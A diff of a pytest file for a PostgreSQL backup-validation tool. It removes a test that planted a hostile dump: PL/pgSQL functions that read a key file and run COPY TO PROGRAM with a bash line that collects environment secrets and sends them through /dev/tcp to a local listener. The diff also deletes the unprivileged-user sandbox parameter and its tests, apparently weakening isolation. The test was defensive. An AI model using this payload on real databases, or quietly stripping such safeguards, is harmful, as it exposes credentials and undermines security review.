@@ -2,19 +2,13 @@
 # GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""A validation: it passes for a backup that restores, names what differs, and lets a hostile dump reach nothing."""
+"""A validation: it passes for a backup that restores, and names what differs."""
 
 from __future__ import annotations
 
 import dataclasses
 import os
-import secrets
-import select
 import shutil
-import signal
-import socket
-import subprocess
-import sys
 import tempfile
 import typing as t
 from pathlib import Path
@@ -22,10 +16,7 @@ from pathlib import Path
 import pytest
 import restore_fakes
 from ansible_collections.lifeboat.recovery.plugins.module_utils._engine import errors
-from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.postgres import scratch, server
 from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.proving import checks, validation
-
-USER = "nobody"
 
 
 @pytest.fixture
@@ -44,7 +35,7 @@ def prove(
 ) -> t.Any:
     settings = t.cast("t.Any", type("Settings", (), {"application": "shop", "state_dir": None})())
     request = validation.ValidateRequest(
-        repository=settings, cluster="main", database="shop", scratch_user=USER, scratch_dir=str(place), **values
+        repository=settings, cluster="main", database="shop", scratch_dir=str(place), **values
     )
     world = restore_fakes.world(environ=environ or {"PATH": os.environ["PATH"]})
     return validation.validate_backup(request, world, t.cast("t.Any", backup))
@@ -152,125 +143,9 @@ def test_a_failed_check_is_told_with_what_it_found(restorer, shop_backup, place)
     assert restorer.sql("SELECT count(*) FROM orders", "asked") == [(9000,)]
 
 
-SCRIPT = (
-    "(id; env; cat {key}; cat /proc/*/environ) >> {loot}/program 2>&1; touch {state}/owned; "
-    "exec 3<>/dev/tcp/127.0.0.1/{port} && env >&3"
-)
-# PostgreSQL lets no COPY into a function that is not volatile, but lets such a function call one that is.
-HOSTILE = """
-SET search_path = public;
-CREATE FUNCTION attack() RETURNS void LANGUAGE plpgsql AS $attack$
-BEGIN
-    IF current_setting('data_directory') NOT LIKE '%scratch-%' THEN RETURN; END IF;
-    BEGIN
-        EXECUTE format('COPY (SELECT %L) TO %L', pg_read_file('<key>'), '<loot>/read');
-    EXCEPTION WHEN OTHERS THEN NULL; END;
-    BEGIN
-        EXECUTE $copy$COPY (SELECT 1) TO PROGRAM 'bash -c "<script>"'$copy$;
-    EXCEPTION WHEN OTHERS THEN NULL; END;
-END $attack$;
-CREATE FUNCTION evil(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $evil$
-BEGIN PERFORM public.attack(); RETURN n; END $evil$;
-CREATE TABLE traps (n int CHECK (evil(n) > 0), d int DEFAULT evil(1), g int GENERATED ALWAYS AS (evil(n)) STORED);
-INSERT INTO traps (n) VALUES (1), (2);
-CREATE INDEX trap ON traps (evil(n));
-CREATE MATERIALIZED VIEW trapped AS SELECT evil(n) FROM traps;
-"""
-
-
-def test_a_hostile_dump_runs_and_reaches_nothing(restorer, database, place, tmp_path):
-    loot = Path(tempfile.mkdtemp(prefix="loot-", dir="/tmp"))
-    loot.chmod(0o777)
-    key, state = tmp_path / "key", tmp_path / "state"
-    secret = secrets.token_hex(32)
-    key.write_text(secret)
-    key.chmod(0o600)
-    state.mkdir()
-    with socket.socket() as listener:
-        listener.bind(("127.0.0.1", 0))
-        listener.listen(8)
-        listener.settimeout(0.2)
-        script = SCRIPT.format(key=key, loot=loot, state=state, port=listener.getsockname()[1])
-        planted = HOSTILE.replace("<script>", script).replace("<key>", str(key)).replace("<loot>", str(loot))
-        backup = restore_fakes.back_up(restorer.cluster, database(sql=planted))
-        try:
-            environ = {"PATH": os.environ["PATH"], "BACKUP_ENCRYPTION_KEY": secret}
-            # What a real run has around it: the key in the environment of the process that starts the cluster.
-            os.environ["LIFEBOAT_TEST_CANARY"] = secret
-            assert prove(backup, place, environ=environ).facts["validation"]["passed"]
-            said = (loot / "program").read_text(errors="replace")
-            assert f"({USER})" in said, "the trap did not run, so this test proves nothing"
-            assert secret not in said
-            assert not (loot / "read").exists()
-            assert list(state.iterdir()) == []
-            with pytest.raises(TimeoutError):
-                listener.accept()
-        finally:
-            del os.environ["LIFEBOAT_TEST_CANARY"]
-            shutil.rmtree(loot)
-
-
-RUN = """
-import sys, time
-from ansible_collections.lifeboat.recovery.plugins.module_utils._engine import termination
-from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.postgres import scratch, server
-with termination.raised_on_sigterm(), scratch.running(
-    server.programs(15), user="nobody", parent=sys.argv[1], token="0badcafe", superuser="postgres", sleep=time.sleep
-) as cluster:
-    print("running", flush=True)
-    time.sleep(60)
-"""
-
-
-@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
-def test_a_stopped_validation_leaves_no_server_and_no_directory(place, number):
-    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
-    child = subprocess.Popen(
-        [sys.executable, "-c", RUN, str(place)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment
-    )
-    assert child.stdout is not None
-    assert child.stdout.readline() == b"running\n"
-    pid = int((place / "scratch-0badcafe" / "data" / "postmaster.pid").read_text().split()[0])
-    child.send_signal(number)
-    child.wait()
-    child.stdout.close()
-    if number == signal.SIGTERM:
-        assert list(place.iterdir()) == []
-    scratch.remove_leftovers(str(place))
-    assert ended(pid)
-
-
-def ended(pid: int) -> bool:
-    """Wait for the end of a process that is not our child."""
-    try:
-        handle = os.pidfd_open(pid)
-    except ProcessLookupError:
-        return True
-    poll = select.poll()
-    poll.register(handle, select.POLLIN)
-    gone = bool(poll.poll(10_000))
-    os.close(handle)
-    return gone
-
-
-def test_a_user_that_does_not_exist_is_told_how_to_make(shop_backup, place):
-    with (
-        pytest.raises(errors.UsageError, match="useradd --system"),
-        scratch.running(
-            server.programs(15),
-            user="lifeboat-nobody",
-            parent=str(place),
-            token="1",
-            superuser="x",
-            sleep=lambda _s: None,
-        ),
-    ):
-        pass
-
-
 def test_check_mode_starts_nothing(shop_backup, place):
     settings = t.cast("t.Any", type("Settings", (), {"application": "shop", "state_dir": None})())
-    request = validation.ValidateRequest(settings, "main", "shop", scratch_user="nobody", scratch_dir=str(place / "x"))
+    request = validation.ValidateRequest(settings, "main", "shop", scratch_dir=str(place / "x"))
     outcome = validation.validate_backup(request, restore_fakes.world(dry_run=True), t.cast("t.Any", shop_backup))
     assert not outcome.changed
     assert list(place.iterdir()) == []
